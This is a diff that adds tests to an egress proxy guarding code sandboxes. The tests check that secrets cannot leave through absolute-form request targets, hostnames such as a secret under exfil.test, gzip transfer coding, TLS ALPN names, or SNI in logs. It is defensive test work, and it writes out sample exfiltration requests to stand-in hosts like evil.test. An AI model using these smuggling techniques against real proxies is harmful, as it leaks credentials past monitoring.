@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import json
 import socket
 
@@ -343,3 +344,194 @@ def test_a_sandbox_gone_without_detaching_gives_its_link_back(egress_env, provid
     again = sandbox(proxy.attachment(upstream_policy(http_up, https_up)))  # a slot to reuse
     assert proxy.network.links[again.id].sandbox_ip == link.sandbox_ip
     assert curl(again, f"http://up.test:{http_up.port}/who")[0] == 200
+
+
+# Raw exchanges from inside a sandbox, each on its own connection: {"host", "port", "payload"
+# (base64), "connect" (a CONNECT target to open first), "sni" (TLS with this name)}; prints
+# one JSON list of what came back.
+RAW_SCRIPT = r"""
+import base64, json, re, socket, ssl, sys
+out = []
+for x in json.loads(sys.stdin.read()):
+    s = socket.create_connection((x["host"], x["port"]), timeout=10)
+    if x.get("connect"):
+        s.sendall(f"CONNECT {x['connect']} HTTP/1.1\r\nHost: {x['connect']}\r\n\r\n".encode())
+        head = b""
+        while b"\r\n\r\n" not in head:
+            head += s.recv(1)
+    if x.get("sni"):
+        ctx = ssl.create_default_context(cafile="/etc/codedojo-egress-ca.pem")
+        s = ctx.wrap_socket(s, server_hostname=x["sni"])
+    s.sendall(base64.b64decode(x["payload"]))
+    data = b""
+    while True:
+        try:
+            chunk = s.recv(65536)
+        except OSError:
+            break
+        data += chunk
+        head, sep, body = data.partition(b"\r\n\r\n")
+        n = re.search(rb"(?i)\ncontent-length: *(\d+)", head)
+        if not chunk or (sep and n and len(body) >= int(n[1])):
+            break
+    out.append(data.decode("latin-1"))
+print(json.dumps(out))
+"""
+
+
+def _raw(sb, exchanges: list[dict]) -> list[str]:
+    blob = [{**x, "payload": base64.b64encode(x["payload"]).decode()} for x in exchanges]
+    r = sb.exec([PYTHON, "-c", RAW_SCRIPT], stdin=json.dumps(blob).encode(), timeout=60)
+    assert r.exit_code == 0, r.stderr
+    return json.loads(r.stdout.strip().splitlines()[-1])
+
+
+@pytest.mark.parametrize("mode", ["explicit", "transparent"])
+def test_an_absolute_form_target_must_name_the_checked_host(egress_env, sandbox, mode):
+    """Sent to an allowed host (transparent mode, or inside a CONNECT tunnel), a request
+    target in absolute form names a host of its own: another host, or a secret in one, is
+    refused; the checked host's own goes upstream in origin form."""
+    http_up, https_up = egress_env["http"], egress_env["https"]
+    proxy = egress_env["proxy"]
+    sb = sandbox(proxy.attachment(upstream_policy(http_up, https_up), mode=mode,
+                                  secrets={"KEY": SECRET}))  # fmt: skip
+    hp, sp = http_up.port, https_up.port
+    if mode == "transparent":
+        tls = {"host": "up.test", "port": sp, "sni": "up.test"}
+    else:
+        tls = {"host": _gateway(sb), "port": proxy.ports.explicit, "connect": f"up.test:{sp}",
+               "sni": "up.test"}  # fmt: skip
+
+    def get(target: str, port: int) -> bytes:
+        return f"GET {target} HTTP/1.1\r\nHost: up.test:{port}\r\n\r\n".encode()
+
+    exchanges = [
+        {**tls, "payload": get("https://evil.test/abs-other", sp)},
+        {**tls, "payload": get(f"https://{SECRET}.exfil.test/abs-secret", sp)},
+        {**tls, "payload": get(f"https://up.test:{sp}/abs-own", sp)},
+    ]
+    if mode == "transparent":
+        plain = {"host": "up.test", "port": hp}
+        exchanges += [{**plain, "payload": get("http://evil.test/abs-other", hp)},
+                      {**plain, "payload": get(f"http://up.test:{hp}/abs-own", hp)}]  # fmt: skip
+    before = len(http_up.received), len(https_up.received)
+    out = _raw(sb, exchanges)
+    for o, x in zip(out, exchanges, strict=True):
+        if b"abs-own" in x["payload"]:
+            assert o.startswith("HTTP/1.1 200"), o
+        else:
+            assert o.startswith("HTTP/1.1 403") and "does not match the destination" in o, o
+    got = http_up.received[before[0]:] + https_up.received[before[1]:]
+    assert [r.path for r in got] == ["/abs-own"] * (2 if mode == "transparent" else 1)
+    records = read_audit(proxy.audit_path(sb.id))
+    refused = [r for r in records if r["status"] == 403]
+    assert refused and all(r["host"] == "up.test" for r in records if r["method"] == "GET")
+    assert any("'evil.test'" in r["blocked"] for r in refused)
+    assert SECRET not in proxy.audit_path(sb.id).read_text()
+
+
+def test_a_body_under_another_transfer_coding_is_refused(egress_env, sandbox):
+    """`Transfer-Encoding: gzip, chunked`: the upstream would inflate a body the proxy's checks
+    never read (a secret in it left as it was)."""
+    import gzip
+
+    http_up, https_up = egress_env["http"], egress_env["https"]
+    proxy = egress_env["proxy"]
+    sb = sandbox(proxy.attachment(upstream_policy(http_up, https_up), mode="transparent",
+                                  secrets={"KEY": SECRET}))  # fmt: skip
+    gz = gzip.compress(f'{{"key": "{SECRET}"}}'.encode())
+    payload = (f"POST /te-gzip HTTP/1.1\r\nHost: up.test:{http_up.port}\r\n"
+               "Transfer-Encoding: gzip, chunked\r\n\r\n").encode()  # fmt: skip
+    payload += b"%x\r\n%s\r\n0\r\n\r\n" % (len(gz), gz)
+    before = len(http_up.received)
+    (out,) = _raw(sb, [{"host": "up.test", "port": http_up.port, "payload": payload}])
+    assert out.startswith("HTTP/1.1 501") and "transfer-encoding" in out, out
+    assert len(http_up.received) == before
+    (rec,) = read_audit(proxy.audit_path(sb.id))
+    assert rec["status"] == 501 and "transfer-encoding" in rec["blocked"]
+
+
+def test_the_sandboxs_alpn_names_do_not_go_upstream(egress_env, sandbox):
+    """The proxy's TLS hello to the upstream offers HTTP/2 and HTTP/1.1 at most, whatever
+    names the sandbox's hello offered (they go in clear text: a secret could ride in one)."""
+    import threading
+
+    http_up, https_up = egress_env["http"], egress_env["https"]
+    hellos: list[bytes] = []
+    srv = socket.create_server(("127.0.0.1", 0))
+
+    def record() -> None:  # the upstream's first bytes: the proxy's TLS ClientHello
+        conn, _ = srv.accept()
+        with conn:
+            conn.settimeout(5)
+            data = b""
+            while len(data) < 5 or len(data) < 5 + int.from_bytes(data[3:5], "big"):
+                chunk = conn.recv(65536)
+                if not chunk:
+                    break
+                data += chunk
+            hellos.append(data)
+
+    threading.Thread(target=record, daemon=True).start()
+    port = srv.getsockname()[1]
+    policy = upstream_policy(http_up, https_up, allow_hosts=["raw.test"], allow_ports=[port],
+                             hosts={"raw.test": "127.0.0.1"},
+                             allow_addresses=[f"127.0.0.1:{port}"])  # fmt: skip
+    sb = sandbox(egress_env["proxy"].attachment(policy, secrets={"KEY": SECRET}))
+    client = (
+        "import socket, ssl, sys\n"
+        "ctx = ssl.create_default_context(cafile='/etc/codedojo-egress-ca.pem')\n"
+        "ctx.set_alpn_protocols(['x-' + sys.argv[2], 'http/1.1'])\n"
+        "s = ctx.wrap_socket(socket.create_connection(('raw.test', int(sys.argv[1]))),\n"
+        "                    server_hostname='raw.test')\n"
+        "s.sendall(b'GET /alpn HTTP/1.1\\r\\nHost: raw.test\\r\\n\\r\\n')\n"
+        "s.recv(100)\n"
+    )
+    try:
+        sb.exec([PYTHON, "-c", client, str(port), SECRET])
+    finally:
+        srv.close()
+    (hello,) = hellos
+    assert hello[:1] == b"\x16" and b"http/1.1" in hello
+    assert SECRET.encode() not in hello
+
+
+def test_a_secret_in_an_aborted_tls_handshakes_name_is_not_logged(egress_env, sandbox):
+    """A sandbox that gives up on the proxy's certificate is logged with mitmproxy's reason,
+    which quotes the TLS SNI: redacted like the host."""
+    import time
+
+    http_up, https_up = egress_env["http"], egress_env["https"]
+    proxy = egress_env["proxy"]
+    sb = sandbox(proxy.attachment(upstream_policy(http_up, https_up), mode="transparent",
+                                  secrets={"KEY": SECRET}))  # fmt: skip
+    client = (
+        "import socket, ssl, sys\n"
+        "ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)  # trusts no CA: it aborts\n"
+        "try:\n"
+        "    ctx.wrap_socket(socket.create_connection(('up.test', int(sys.argv[1]))),\n"
+        "                    server_hostname=sys.argv[2])\n"
+        "except ssl.SSLError:\n"
+        "    pass\n"
+    )
+    sb.exec([PYTHON, "-c", client, str(https_up.port), f"{SECRET}.up.test"])
+    for _ in range(100):  # the proxy logs it once it has seen the alert
+        records = read_audit(proxy.audit_path(sb.id))
+        if records:
+            break
+        time.sleep(0.05)
+    (rec,) = records
+    assert rec["method"] == "TLS" and "__REDACTED_KEY__.up.test" in rec["error"]
+    assert SECRET not in proxy.audit_path(sb.id).read_text()
+
+
+def test_a_response_too_large_is_logged_as_withheld_not_as_a_blocked_request(egress_env, sandbox):
+    http_up, https_up = egress_env["http"], egress_env["https"]
+    proxy = egress_env["proxy"]
+    policy = upstream_policy(http_up, https_up, max_response_bytes=5000)
+    sb = sandbox(proxy.attachment(policy))
+    status, _ = curl(sb, f"http://up.test:{http_up.port}/big/20000", "--data-binary", "x" * 800)
+    assert status == 502 and http_up.received[-1].body == b"x" * 800
+    (rec,) = read_audit(proxy.audit_path(sb.id))
+    assert rec["blocked"] is None and rec["bytes_out"] == 800
+    assert "max_response_bytes=5000" in rec["response_refused"]
